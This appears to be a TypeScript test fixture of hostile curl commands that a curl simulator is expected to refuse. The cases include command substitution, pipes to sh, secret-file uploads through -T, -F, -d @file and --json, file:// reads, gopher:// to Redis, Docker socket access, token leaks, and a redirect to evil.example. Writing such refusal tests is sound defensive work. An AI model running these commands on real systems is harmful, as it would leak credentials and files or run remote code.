import type { ErrorCode } from '../../../src/core/errors.js';

/**
 * Commands that try to turn the curl simulator into a shell, a file reader or an exfiltration
 * channel. Each must be refused with `code`, and the message must name `construct`.
 *
 * Placeholders, replaced by the test: `SERVER` (a local HTTP server that counts requests),
 * `CANARY` (a path that must never be created), `SECRET` (a file whose content must never be read).
 */
export interface HostileCase {
  name: string;
  command: string;
  code: ErrorCode;
  construct: string;
}

const F: ErrorCode = 'CURL_FORBIDDEN';

export const HOSTILE: readonly HostileCase[] = [
  { name: 'command substitution', command: 'curl SERVER/$(touch CANARY)', code: F, construct: '`$(...)`' },
  { name: 'command substitution in double quotes', command: 'curl "SERVER/?u=$(touch CANARY)"', code: F, construct: '`$(...)`' },
  { name: 'command substitution in a body', command: `curl SERVER -d "x=$(cat SECRET)"`, code: F, construct: '`$(...)`' },
  { name: 'backticks', command: 'curl SERVER/`touch CANARY`', code: F, construct: '`` `...` ``' },
  { name: 'semicolon', command: 'curl SERVER ; touch CANARY', code: F, construct: '`;`' },
  { name: 'and-list', command: 'curl SERVER && touch CANARY', code: F, construct: '`&&`' },
  { name: 'or-list', command: 'curl SERVER || touch CANARY', code: F, construct: '`||`' },
  { name: 'pipe', command: 'curl SERVER | sh', code: F, construct: '`|`' },
  { name: 'background', command: 'curl SERVER/?a=1&touch CANARY', code: F, construct: '`&`' },
  { name: 'redirect output', command: 'curl SERVER > CANARY', code: F, construct: '`>`' },
  { name: 'redirect stderr', command: 'curl SERVER 2>CANARY', code: F, construct: '`>`' },
  { name: 'redirect input', command: 'curl SERVER -d @- < SECRET', code: F, construct: '`<`' },
  { name: 'process substitution', command: 'curl SERVER -d @<(cat SECRET)', code: F, construct: '`<(`' },
  { name: 'subshell', command: '(curl SERVER; touch CANARY)', code: F, construct: '`(`' },
  { name: 'second command on a new line', command: 'curl SERVER\ntouch CANARY', code: F, construct: '`line break`' },
  { name: '$VAR', command: 'curl SERVER/?home=$HOME', code: F, construct: '`$HOME`' },
  { name: '${VAR}', command: 'curl SERVER -H "Authorization: Bearer ${TOKEN}"', code: F, construct: '`$TOKEN`' },
  { name: '${VAR:-default}', command: 'curl SERVER -d "p=${PASSWORD:-x}"', code: F, construct: '`${PASSWORD:-x}`' },
  { name: '-o', command: 'curl SERVER -o CANARY', code: F, construct: '`-o`' },
  { name: '-o in a short group', command: 'curl -sSLoCANARY SERVER', code: F, construct: '`-o`' },
  { name: '-O', command: 'curl -O SERVER/file', code: F, construct: '`-O`' },
  { name: '-K', command: 'curl -K SECRET SERVER', code: F, construct: '`-K`' },
  { name: '--config=', command: 'curl --config=SECRET SERVER', code: F, construct: '`--config`' },
  { name: '-T', command: 'curl -T SECRET SERVER/upload', code: F, construct: '`-T`' },
  { name: '-F @file', command: "curl -F 'file=@SECRET' SERVER/upload", code: F, construct: '`-F name=@file`' },
  { name: '-F <file', command: "curl -F 'file=<SECRET' SERVER/upload", code: F, construct: '`-F name=<file`' },
  { name: '-d @file', command: 'curl -d @SECRET SERVER', code: F, construct: '`-d @file`' },
  { name: '-d@file in a short group', command: 'curl -sd@SECRET SERVER', code: F, construct: '`-d @file`' },
  { name: '--data-binary @-', command: 'curl --data-binary @- SERVER', code: F, construct: '`--data-binary @-`' },
  { name: '--json @file', command: 'curl --json @SECRET SERVER', code: F, construct: '`--json @file`' },
  { name: '--data-urlencode name@file', command: 'curl --data-urlencode x@SECRET SERVER', code: F, construct: '`--data-urlencode name@file`' },
  { name: '-H @file', command: 'curl -H @SECRET SERVER', code: F, construct: '`-H @file`' },
  { name: '-b file', command: 'curl -b SECRET SERVER', code: F, construct: '`-b <file>`' },
  { name: '--url @file', command: 'curl --url @SECRET', code: F, construct: '`--url @file`' },
  { name: 'file://', command: 'curl file://SECRET', code: F, construct: '`file://`' },
  { name: 'file: without slashes', command: 'curl file:SECRET', code: F, construct: '`file:`' },
  { name: 'gopher://', command: 'curl gopher://127.0.0.1:6379/_FLUSHALL', code: F, construct: '`gopher://`' },
  { name: 'dict://', command: 'curl dict://127.0.0.1:11211/stats', code: F, construct: '`dict://`' },
  { name: 'ftp guessed from the host', command: 'curl ftp.example.com/file', code: F, construct: '`ftp://`' },
  { name: '--unix-socket', command: 'curl --unix-socket /var/run/docker.sock http://localhost/containers/json', code: F, construct: '`--unix-socket`' },
  { name: '--abstract-unix-socket', command: 'curl --abstract-unix-socket x http://localhost/', code: F, construct: '`--abstract-unix-socket`' },
  { name: '-w', command: "curl -w '%{stderr}' SERVER", code: F, construct: '`-w`' },
  { name: '-c', command: 'curl -c CANARY SERVER', code: F, construct: '`-c`' },
  { name: '-D', command: 'curl -D CANARY SERVER', code: F, construct: '`-D`' },
  { name: '--trace', command: 'curl --trace CANARY SERVER', code: F, construct: '`--trace`' },
  { name: '--netrc', command: 'curl --netrc SERVER', code: F, construct: '`--netrc`' },
  { name: '-E', command: 'curl -E SECRET SERVER', code: F, construct: '`-E`' },
  { name: '--resolve', command: 'curl --resolve api.example.com:443:10.0.0.1 https://api.example.com/', code: F, construct: '`--resolve`' },
  { name: '--connect-to', command: 'curl --connect-to ::evil.example:443 https://api.example.com/', code: F, construct: '`--connect-to`' },
  { name: 'cmd operator', command: 'curl ^"SERVER^" ^\n  & type SECRET', code: F, construct: '`&`' },
  { name: 'cmd %VAR%', command: 'curl ^"SERVER/?p=%USERPROFILE%^"', code: F, construct: '`%USERPROFILE%`' },
  { name: 'a 1 MB command', command: `curl SERVER -d '${'a'.repeat(1024 * 1024)}'`, code: F, construct: 'characters' },
  { name: 'a second curl (prefix program)', command: 'env LD_PRELOAD=CANARY curl SERVER', code: 'CURL_PARSE', construct: '`curl` appears twice' },
  { name: '--next', command: 'curl SERVER -: https://evil.example/', code: 'CURL_UNSUPPORTED_OPTION', construct: '`-:`' },
  { name: 'SOCKS proxy', command: 'curl -x socks5://127.0.0.1:9050 SERVER', code: 'CURL_UNSUPPORTED_OPTION', construct: '`-x`' },
  { name: 'unknown option', command: 'curl --totally-unknown SERVER', code: 'CURL_UNSUPPORTED_OPTION', construct: '`--totally-unknown`' },
];
